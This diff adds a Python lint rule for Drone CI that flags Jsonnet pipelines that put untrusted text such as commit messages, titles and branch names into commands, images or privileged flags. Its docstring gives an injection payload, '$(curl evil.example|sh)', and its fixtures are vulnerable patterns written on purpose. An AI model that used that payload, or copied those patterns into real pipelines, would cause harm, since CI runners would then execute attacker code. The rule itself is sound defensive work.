@@ -1,0 +1,213 @@
+"""Text of strangers that a Jsonnet program puts into its pipelines."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from drone_lint.api import (
+    CWE,
+    EVENTS,
+    OWASP,
+    Confidence,
+    ConfigFile,
+    Document,
+    Finding,
+    Jsonnet,
+    Note,
+    Place,
+    Rule,
+    Severity,
+    Trigger,
+    step_events,
+)
+from drone_lint_rules.injection._tainted import GUARDED
+
+_FREE = ("build.message", "build.title", "build.author_login", "build.author_name", "build.author_email", "build.author_avatar")
+_SHELL = {
+    "build.message": "DRONE_COMMIT_MESSAGE",
+    "build.title": "DRONE_PULL_REQUEST_TITLE",
+    "build.author_login": "DRONE_COMMIT_AUTHOR",
+    "build.author_name": "DRONE_COMMIT_AUTHOR_NAME",
+    "build.author_email": "DRONE_COMMIT_AUTHOR_EMAIL",
+    "build.author_avatar": "DRONE_COMMIT_AUTHOR_AVATAR",
+    "build.source": "DRONE_SOURCE_BRANCH",
+    "build.branch": "DRONE_BRANCH",
+    "build.target": "DRONE_TARGET_BRANCH",
+    "build.ref": "DRONE_COMMIT_REF",
+}
+"""What a step has of the same in its environment."""
+_CODE = ("commands", "command", "entrypoint")
+
+
+class JsonnetInjection(Rule):
+    r"""A Jsonnet program puts text that a stranger wrote into a pipeline.
+
+    `std.extVar('build.message')`, `build.title`, `build.author_*`, `build.source` and the like hold what people without any rights wrote, and `build.param.*` what
+    whoever starts a build chose. In `commands` such text is shell code: `'echo "' + std.extVar('build.message') + '"'` with the message `$(curl evil.example|sh)`
+    runs it. In `image` it chooses what runs.
+
+    Elsewhere, too: in the JSON that the server makes of the program the text is escaped, but a runner afterwards replaces `${...}` and takes backslashes away in the
+    whole of it. A message with `\"` in it then ends the string and goes on with keys of its own.
+
+    The value is followed through functions, formats and libraries. What only decides (`if std.extVar('build.branch') == 'main'`) is no finding, but for `privileged`.
+    Names of branches outside of commands and images are reported by the pedantic profile only; build parameters are notices.
+
+    Let the shell read the variable from its environment, in double quotes: `"$DRONE_COMMIT_MESSAGE"`.
+    """
+
+    name = "jsonnet-injection"
+    severity = Severity.WARNING
+    confidence = Confidence.MEDIUM
+    trigger = Trigger(noted=True)
+    why = "the server escapes it for JSON only: the shell still reads it as code, and runners replace `${...}` and backslashes in it"
+    references = (OWASP.CICD_SEC_4, CWE(78), CWE(94))
+
+    bad = (
+        Jsonnet("""
+        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
+          { name: 'direct', image: 'alpine:3.20', commands: [
+            'echo "' + std.extVar('build.message') + '"',  // <- jsonnet-injection
+            'make',
+          ] },
+        ] }
+        """),
+        Jsonnet(
+            """
+        local title = std.strReplace(std.extVar('build.title'), '"', "'");
+        local announce(text) = 'announce "%s"' % text;
+        local parts = std.split(std.extVar('build.source'), '/');
+        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
+          {
+            name: 'through functions',
+            image: 'registry.example.com/ci:' + std.asciiLower(parts[std.length(parts) - 1]),  // <- jsonnet-injection
+            commands: [
+              announce(title),  // <- jsonnet-injection
+              std.format('git fetch origin %(branch)s', { branch: std.extVar('build.branch') }),  // <- jsonnet-injection
+              std.join(' ', ['make', std.extVar('build.param.TARGET')]),  // <- jsonnet-injection
+            ],
+            settings: {
+              text: std.substr(std.extVar('build.author_name'), 0, 10),  // <- jsonnet-injection
+              payload: std.manifestJsonEx({ t: std.extVar('build.message') }, ' '),  // <- jsonnet-injection
+            },
+          },
+        ] }
+        """
+        ),
+        Jsonnet("""
+        local read(name) = std.extVar('build.' + name);
+        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
+          if read('event') == 'push' && read('branch') != 'main' then {
+            name: 'computed',
+            image: 'alpine:3.20',
+            commands: ['echo'] + (if read('source') == 'x' then [] else [read('source')]),  // <- jsonnet-injection
+          } else { name: 'none', image: 'alpine:3.20' },
+        ] }
+        """),
+        Jsonnet("""
+        local said = std.length(std.findSubstr('[host]', std.extVar('build.message'))) > 0;
+        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
+          { name: 'decides', image: 'alpine:3.20', privileged: said },  // <- jsonnet-injection
+        ] }
+        """),
+        Jsonnet(
+            """
+        local step = import 'step.libsonnet';
+        { kind: 'pipeline', type: 'docker', name: 'a', steps: [step] }
+        """,
+            files=(("step.libsonnet", "{ name: 'a', image: 'alpine:3.20', commands: ['echo ' + std.extVar('build.message')] }\n"),),
+            lines=(1,),
+        ),
+    )
+    good = (
+        Jsonnet("""
+        local branch = std.extVar('build.branch');
+        local event = std.extVar('build.event');
+        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
+          {
+            name: 'decides only',
+            image: if std.startsWith(branch, 'release/') then 'alpine:3.20' else 'alpine:3.19',
+            privileged: branch == 'main',
+            commands: [
+              'echo "$DRONE_COMMIT_MESSAGE" ' + std.extVar('build.event') + std.extVar('build.commit') + std.extVar('repo.name'),
+              'test ' + std.length(std.extVar('build.message')),
+              if branch == 'main' then 'deploy ' + branch else 'echo no',
+            ],
+          },
+        ] + (if std.length(std.extVar('build.title')) > 3 then [{ name: 'b', image: 'alpine:3.20', privileged: true }] else []) }
+        """),
+        Jsonnet("""
+        // std.extVar('build.message')
+        { kind: 'pipeline', type: 'docker', name: 'a', local unused = std.extVar('build.message'), steps: [
+          { name: 'a', image: 'alpine:3.20', commands: ['echo hello'] },
+        ] }
+        """),
+    )
+
+    def check_file(self, file: ConfigFile) -> Iterator[Finding]:
+        events = {id(document): one.events for one in file.evaluations for document in one.server}
+        for note in file.noted(self.name):
+            place = note.place
+            if isinstance(place, Place):
+                yield from self._finding(note, place, events.get(id(place.document)))
+
+    def _finding(self, note: Note, place: Place, events: tuple[str, ...] | None) -> Iterator[Finding]:
+        where = _sink(place)
+        free, named = note.subject in _FREE, note.subject in _SHELL
+        severe = where != "other" or free
+        if not severe and not self.pedantic:
+            return
+        guarded = not free and (not named or _events(place, events) <= GUARDED)
+        severity = Severity.WARNING if severe and not guarded else Severity.NOTICE
+        yield self.finding(
+            place, _message(note.subject, place, where), severity=severity, related=note.related, help=_help(note.subject, where)
+        )
+
+
+def _sink(place: Place) -> str:
+    """What the text becomes: `code`, `image`, `privileged`, or `other`."""
+    path = place.path
+    if len(path) < 3 or path[0] not in ("steps", "services"):
+        return "other"
+    key = path[2]
+    if key in _CODE:
+        return "code"
+    return str(key) if key in ("image", "privileged") else "other"
+
+
+def _events(place: Place, events: tuple[str, ...] | None) -> frozenset[str]:
+    """The events for which what is at a place can run."""
+    pipeline = place.document.pipeline
+    found = frozenset(EVENTS if events is None else events)
+    for step in pipeline.containers if pipeline is not None else ():
+        if place.path[:2] == step.value.path:
+            return found & step_events(step)
+    return found
+
+
+def _message(name: str, place: Place, where: str) -> str:
+    who = "whoever starts the build" if name.startswith("build.param.") else "its author"
+    of = _owner(place.document, place)
+    if where == "code":
+        return f"`{name}` becomes part of a command{of}: {who} can put commands there"
+    if where == "image":
+        return f"`{name}` is part of the image{of}: {who} chooses what runs"
+    if where == "privileged":
+        return f"`{name}` decides whether{of.replace(' of', '', 1)} is privileged"
+    keys = ".".join(key for key in (place.path[2:] if of else place.path) if isinstance(key, str)) or "the configuration"
+    return f"`{name}` becomes part of `{keys}`{of}, where runners still replace `${{...}}` and backslashes in it"
+
+
+def _owner(document: Document, place: Place) -> str:
+    for step in document.pipeline.containers if document.pipeline is not None else ():
+        if place.path[:2] == step.value.path:
+            return f" of {step.title}"
+    return ""
+
+
+def _help(name: str, where: str) -> str:
+    if where == "image":
+        return "choose among images that the program names: `if ... then 'a' else 'b'`"
+    if where == "privileged":
+        return "decide by what only maintainers choose: the event, or the target branch"
+    variable = _SHELL.get(name, name.removeprefix("build.param."))
+    return f'let the step read its own environment, in double quotes: `"${variable}"`'
